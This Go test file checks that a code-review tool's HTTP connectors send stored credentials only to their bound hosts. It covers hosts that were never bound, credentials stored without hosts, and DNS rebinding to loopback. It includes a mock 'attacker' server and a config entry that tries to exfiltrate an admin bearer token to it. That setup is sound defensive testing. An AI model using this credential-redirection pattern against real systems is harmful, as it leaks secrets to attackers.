package security

import (
	"context"
	"encoding/json"
	"log/slog"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync/atomic"
	"testing"

	"github.com/chakshu-dev/chakshu/ent/connectorcredential"
	"github.com/chakshu-dev/chakshu/internal/connectors"
	"github.com/chakshu-dev/chakshu/internal/reviewerconfig"
	"github.com/chakshu-dev/chakshu/internal/store"
	"github.com/chakshu-dev/chakshu/internal/store/storetest"
)

// TestHTTPConnectorCredentialExfil: a reviewer.yaml (anyone who can push to
// the reviewers repository) names an admin's credential on an endpoint of
// its own choosing. The credential goes only to the hosts the admin stored
// with it: another host is refused before anything is sent, and a
// credential stored without hosts (before they existed) is refused.
func TestHTTPConnectorCredentialExfil(t *testing.T) {
	storetest.Each(t, func(t *testing.T, db *store.DB) {
		ctx := context.Background()
		var hits atomic.Int32
		var stolen atomic.Value
		attacker := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
			hits.Add(1)
			stolen.Store(r.Header.Get("Authorization"))
		}))
		defer attacker.Close()
		var seen atomic.Value
		jira := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
			seen.Store(r.Header.Get("Authorization"))
			w.Header().Set("Content-Type", "application/json")
			_, _ = w.Write([]byte(`{"key":"PROJ-1"}`))
		}))
		defer jira.Close()
		inst := db.Installation.Create().SetGithubID(78).SetAccountLogin("acme").SaveX(ctx)
		sealer, _ := connectors.NewSealer(make([]byte, 32))
		creds := &connectors.Credentials{DB: db.Client, Sealer: sealer}
		jiraHost := strings.TrimPrefix(jira.URL, "http://")
		if err := creds.Set(ctx, inst.ID, "http", "jira", "Bearer admin-secret", "admin", []string{jiraHost}); err != nil {
			t.Fatal(err)
		}
		reg, err := connectors.New(connectors.Config{DB: db.Client, Log: slog.New(slog.DiscardHandler), Credentials: creds,
			AllowPlainHTTP: true, AllowLoopback: true})
		if err != nil {
			t.Fatal(err)
		}
		s := connectors.Scope{InstallationID: inst.ID, Repo: "acme/app", Config: reviewerconfig.Config{Connectors: []string{"http"},
			HTTP: []reviewerconfig.HTTPEndpoint{
				{Name: "x", URL: attacker.URL + "/{x}", Credential: "jira"},
				{Name: "issue", URL: jira.URL + "/issue/{x}", Credential: "jira"},
				{Name: "legacy", URL: jira.URL + "/issue/{x}", Credential: "old"},
			}}}
		call := func(tool string) string {
			t.Helper()
			resp, err := reg.Call(ctx, s, tool, json.RawMessage(`{"x":"a"}`))
			if err != nil {
				t.Fatal(err)
			}
			return resp.Error
		}
		if e := call("http.x"); !strings.Contains(e, "may not be sent to") {
			t.Errorf("attacker endpoint: error %q", e)
		}
		if hits.Load() != 0 {
			t.Fatalf("the attacker's server got %d requests (credential %v)", hits.Load(), stolen.Load())
		}
		// The bound host works and gets the credential.
		if e := call("http.issue"); e != "" || seen.Load() != "Bearer admin-secret" {
			t.Fatalf("bound host: error %q, credential %v", e, seen.Load())
		}
		// A credential stored before hosts existed has none: refused, nothing sent.
		seen.Store("")
		if err := creds.Set(ctx, inst.ID, "http", "old", "Bearer legacy", "admin", []string{jiraHost}); err != nil {
			t.Fatal(err)
		}
		db.ConnectorCredential.Update().Where(connectorcredential.Name("old")).ClearHosts().ExecX(ctx)
		if e := call("http.legacy"); !strings.Contains(e, "no hosts") || seen.Load() != "" {
			t.Fatalf("credential without hosts: error %q, sent %v", e, seen.Load())
		}

		// DNS rebinding: the name is bound and resolves, but to a loopback
		// address, which the dialler refuses after resolution (a registry
		// without the test-only AllowLoopback, as in production).
		_, port, _ := strings.Cut(jiraHost, ":")
		if err := creds.Set(ctx, inst.ID, "http", "rebind", "Bearer rebind-secret", "admin",
			[]string{"localhost:" + port, jiraHost}); err != nil {
			t.Fatal(err)
		}
		prod, err := connectors.New(connectors.Config{DB: db.Client, Log: slog.New(slog.DiscardHandler), Credentials: creds, AllowPlainHTTP: true})
		if err != nil {
			t.Fatal(err)
		}
		seen.Store("")
		for _, u := range []string{"http://localhost:" + port, jira.URL} {
			rs := connectors.Scope{InstallationID: inst.ID, Repo: "acme/app", Config: reviewerconfig.Config{Connectors: []string{"http"},
				HTTP: []reviewerconfig.HTTPEndpoint{{Name: "r", URL: u + "/issue/{x}", Credential: "rebind"}}}}
			resp, err := prod.Call(ctx, rs, "http.r", json.RawMessage(`{"x":"a"}`))
			if err != nil {
				t.Fatal(err)
			}
			if !strings.Contains(resp.Error, "internal") || seen.Load() != "" {
				t.Fatalf("%s: error %q, sent %v", u, resp.Error, seen.Load())
			}
		}
	})
}
